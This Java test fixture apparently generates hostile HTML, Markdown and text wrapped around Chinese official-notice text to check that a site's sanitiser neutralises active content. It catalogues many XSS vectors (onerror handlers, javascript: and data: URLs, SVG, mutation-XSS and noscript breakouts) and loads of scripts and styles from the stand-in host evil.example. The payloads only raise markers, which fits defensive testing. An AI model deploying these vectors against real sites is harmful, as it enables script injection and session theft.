package org.gongwen.hostile;

import java.util.List;

/**
 * Web pages and Markdown carrying active content, wrapped around real 公文 text: every way a saved page could run a
 * script or load something when its text is shown on the site. Each payload, if it ever runs, calls
 * {@code alert('xss-N')}, sets {@code document.title} to {@code PWNED-N} and adds an element with id {@code pwned},
 * so a browser test can tell that it ran and which one.
 */
final class HostileHtml {
    private HostileHtml() {
    }

    /** The script a payload runs. */
    static String js(int n) {
        return "alert('xss-" + n + "');document.title='PWNED-" + n + "';"
                + "document.documentElement.appendChild(Object.assign(document.createElement('i'),{id:'pwned'}))";
    }

    /** A saved gov.cn-style page: the portal metadata table and the body, both laced with payloads. */
    static String page(List<String> paragraphs) {
        StringBuilder body = new StringBuilder();
        for (int i = 0; i < paragraphs.size(); i++) {
            body.append("<p>").append(escape(paragraphs.get(i))).append("</p>\n");
            if (i < PAYLOADS.size()) {
                body.append(PAYLOADS.get(i)).append('\n');
            }
        }
        for (int i = paragraphs.size(); i < PAYLOADS.size(); i++) {
            body.append(PAYLOADS.get(i)).append('\n');
        }
        return "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">\n"
                + "<base href=\"http://evil.example/\">\n"
                + "<meta http-equiv=\"refresh\" content=\"0;url=javascript:" + js(1) + "\">\n"
                + "<title>中国人民银行办公厅关于完善数据报送流程的通知</title><script>" + js(2) + "</script>\n"
                + "<style>body{background:url(http://evil.example/bg.png)} @import url(http://evil.example/x.css);</style>\n"
                + "<link rel=\"stylesheet\" href=\"http://evil.example/y.css\">\n"
                + "</head><body onload=\"" + js(3) + "\">\n"
                + "<table class=\"portal\"><tr><td>索引号：</td><td>000014349/2017-00118</td></tr>\n"
                + "<tr><td>发文机关：</td><td>中国人民银行办公厅<img src=x onerror=\"" + js(4) + "\"></td></tr>\n"
                + "<tr><td>标题：</td><td>关于完善数据报送流程的通知&lt;script&gt;" + js(5) + "&lt;/script&gt;</td></tr>\n"
                + "<tr><td>发文字号：</td><td>银办发〔2017〕118号\"&gt;&lt;img src=x onerror=" + js(6) + "&gt;</td></tr>\n"
                + "<tr><td>成文日期：</td><td>2017年05月26日</td></tr></table>\n"
                + body + "</body></html>\n";
    }

    /** Markdown: raw HTML and script URLs that a Markdown renderer passes through unless told not to. */
    static String markdown(List<String> paragraphs) {
        return "# 关于做好数据报送工作的通知\n\n" + String.join("\n\n", paragraphs) + "\n\n"
                + "<script>" + js(30) + "</script>\n\n"
                + "<div><img src=x onerror=\"" + js(31) + "\"></div>\n\n"
                + "[附件下载](javascript:" + js(32).replace("(", "%28").replace(")", "%29") + ")\n\n"
                + "![图表](javascript:alert('xss-33'))\n\n"
                + "<javascript:alert('xss-34')>\n\n"
                + "[参考][ref]\n\n[ref]: javascript:alert('xss-35')\n\n"
                + "<iframe src=\"javascript:" + js(36) + "\"></iframe>\n";
    }

    /** Plain text whose lines look like markup, a citation and a document number with payloads. */
    static String text(List<String> paragraphs) {
        return String.join("\n", paragraphs) + "\n"
                + "根据《<img src=x onerror=\"" + js(40) + "\">管理办法》（银发〔2015〕290号\"><script>" + js(41)
                + "</script>）执行。\n"
                + "<script>" + js(42) + "</script>\n"
                + "[点击](javascript:" + js(43).replace("(", "%28").replace(")", "%29") + ")\n"
                + "联系方式：javascript:alert('xss-44') &lt;b&gt; &amp; \"引号\" '单引号'\n";
    }

    private static String escape(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }

    private static final List<String> PAYLOADS = List.of(
            "<img src=x onerror=\"" + js(10) + "\">",
            "<a href=\"javascript:" + js(11) + "\">点击查看附件</a> <a href=\" JaVaScRiPt:" + js(12) + "\">附件2</a>",
            "<iframe src=\"javascript:" + js(13) + "\"></iframe><iframe srcdoc=\"<script>parent." + js(14).replace("'", "&#39;") + "</script>\"></iframe>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>" + js(15) + "</script></svg><svg onload=\"" + js(16) + "\"></svg>",
            "<div style=\"background-image:url('http://evil.example/track.gif')\">附件1</div>",
            "<object data=\"javascript:" + js(17) + "\"></object><embed src=\"http://evil.example/e.swf\">",
            "<form action=\"javascript:" + js(18) + "\"><button id=\"submit\">提交</button></form>",
            "<math><mtext><table><mglyph><style><img src=x onerror=\"" + js(19) + "\"></style></mglyph></table></mtext></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=" + js(20).replace(" ", "") + ">\"></noscript>",
            "<details open ontoggle=\"" + js(21) + "\"><summary>说明</summary></details>",
            "<video><source onerror=\"" + js(22) + "\"></video><audio src=x onerror=\"" + js(23) + "\"></audio>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLTI0Jyk8L3NjcmlwdD4=\">数据</a>",
            "<script src=\"http://evil.example/remote.js\"></script>");
}
